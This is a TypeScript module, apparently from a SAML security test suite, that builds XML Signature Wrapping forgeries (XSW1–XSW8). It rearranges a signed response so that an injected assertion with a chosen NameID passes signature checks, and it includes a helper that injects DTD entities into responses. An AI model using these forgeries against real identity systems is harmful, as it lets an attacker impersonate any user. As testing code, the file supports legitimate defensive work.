import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { newId } from './saml-idp.js'

/**
 * XML surgery on a valid response, to build the attacks of the suite. Names follow Somorovsky et
 * al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012) and SAML Raider's
 * XSW1–XSW8. Works on a DOM, never on strings, except where the attack itself is textual (DTDs).
 */
export const NS = {
  protocol: 'urn:oasis:names:tc:SAML:2.0:protocol',
  assertion: 'urn:oasis:names:tc:SAML:2.0:assertion',
  dsig: 'http://www.w3.org/2000/09/xmldsig#',
}

export function decode(base64: string): Document {
  return new DOMParser().parseFromString(Buffer.from(base64, 'base64').toString('utf8'), 'text/xml')
}

export function encode(xml: Document | string): string {
  const text = typeof xml === 'string' ? xml : new XMLSerializer().serializeToString(xml)
  return Buffer.from(text, 'utf8').toString('base64')
}

export function all(root: Document | Element, ns: string, name: string): Element[] {
  return Array.from(root.getElementsByTagNameNS(ns, name))
}

export function one(root: Document | Element, ns: string, name: string): Element {
  const found = all(root, ns, name)[0]
  if (!found) throw new Error(`no ${name}`)
  return found
}

/** The element's own ds:Signature (a direct child), if any. */
export function ownSignature(element: Element): Element | undefined {
  return Array.from(element.childNodes).find(
    (n): n is Element =>
      (n as Element).localName === 'Signature' && (n as Element).namespaceURI === NS.dsig,
  )
}

export function setText(element: Element, text: string): void {
  while (element.firstChild) element.removeChild(element.firstChild)
  element.appendChild(element.ownerDocument.createTextNode(text))
}

/** A copy of the assertion that says `nameId`, with a new ID and no signature of its own. */
export function evilCopy(assertion: Element, nameId: string, keepSignature = false): Element {
  const copy = assertion.cloneNode(true) as Element
  copy.setAttribute('ID', newId())
  const signature = ownSignature(copy)
  if (signature && !keepSignature) copy.removeChild(signature)
  setText(one(copy, NS.assertion, 'NameID'), nameId)
  return copy
}

export function insertAfterIssuer(parent: Element, node: Node): void {
  const issuer = Array.from(parent.childNodes).find((n) => (n as Element).localName === 'Issuer')
  parent.insertBefore(node, issuer ? issuer.nextSibling : parent.firstChild)
}

/**
 * XSW1 and XSW2 (Response signature): a forged Response becomes the root; the original signed
 * Response goes inside the moved Signature (XSW1) or right before it (XSW2, detached).
 */
export function wrapResponse(doc: Document, nameId: string, variant: 'xsw1' | 'xsw2'): Document {
  const original = doc.documentElement
  const signature = ownSignature(original)
  if (!signature) throw new Error('the response is not signed')
  const evil = original.cloneNode(true) as Element
  const evilSignature = ownSignature(evil)
  if (evilSignature) evil.removeChild(evilSignature)
  evil.setAttribute('ID', newId())
  const evilAssertion = one(evil, NS.assertion, 'Assertion')
  evil.replaceChild(evilCopy(evilAssertion, nameId), evilAssertion)
  original.removeChild(signature)
  doc.removeChild(original)
  doc.appendChild(evil)
  if (variant === 'xsw1') {
    signature.appendChild(original)
    insertAfterIssuer(evil, signature)
  } else {
    insertAfterIssuer(evil, signature)
    evil.insertBefore(original, signature)
  }
  return doc
}

/** XSW3–XSW8 (Assertion signature): the evil assertion and the signed original, rearranged. */
export function wrapAssertion(
  doc: Document,
  nameId: string,
  variant: 'xsw3' | 'xsw4' | 'xsw5' | 'xsw6' | 'xsw7' | 'xsw8',
): Document {
  const response = doc.documentElement
  const original = one(doc, NS.assertion, 'Assertion')
  const stripped = () => {
    const copy = original.cloneNode(true) as Element
    const signature = ownSignature(copy)
    if (signature) copy.removeChild(signature)
    return copy
  }
  switch (variant) {
    case 'xsw3': // evil assertion first, signed original after it
      response.insertBefore(evilCopy(original, nameId), original)
      break
    case 'xsw4': {
      // evil assertion wraps the signed original
      const evil = evilCopy(original, nameId)
      response.replaceChild(evil, original)
      evil.appendChild(original)
      break
    }
    case 'xsw5': {
      // evil assertion carries the original signature; an unsigned original copy at the end
      const evil = evilCopy(original, nameId, true)
      evil.setAttribute('ID', original.getAttribute('ID') ?? '')
      response.replaceChild(evil, original)
      response.appendChild(stripped())
      break
    }
    case 'xsw6': {
      // as XSW5, with the original copy inside the evil assertion's Signature
      const evil = evilCopy(original, nameId, true)
      const copy = stripped()
      response.replaceChild(evil, original)
      ownSignature(evil)?.appendChild(copy)
      break
    }
    case 'xsw7': {
      // the signed original hidden in samlp:Extensions; the evil assertion in its place
      const extensions = doc.createElementNS(NS.protocol, 'samlp:Extensions')
      const evil = evilCopy(original, nameId)
      response.replaceChild(evil, original)
      extensions.appendChild(original)
      insertAfterIssuer(response, extensions)
      break
    }
    case 'xsw8': {
      // the original (unsigned copy) inside a ds:Object of the evil assertion's Signature
      const evil = evilCopy(original, nameId, true)
      evil.setAttribute('ID', original.getAttribute('ID') ?? '')
      const object = doc.createElementNS(NS.dsig, 'ds:Object')
      object.appendChild(stripped())
      response.replaceChild(evil, original)
      ownSignature(evil)?.appendChild(object)
      break
    }
  }
  return doc
}

/** A DTD-bearing copy of a response: `entities` is the internal subset, `&use;` replaces the NameID. */
export function withDtd(base64: string, nameId: string, entities: string, use: string): string {
  const xml = Buffer.from(base64, 'base64').toString('utf8')
  const doctype = `<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [${entities}]>\n`
  return encode(doctype + xml.replace(`>${nameId}<`, `>&${use};<`))
}
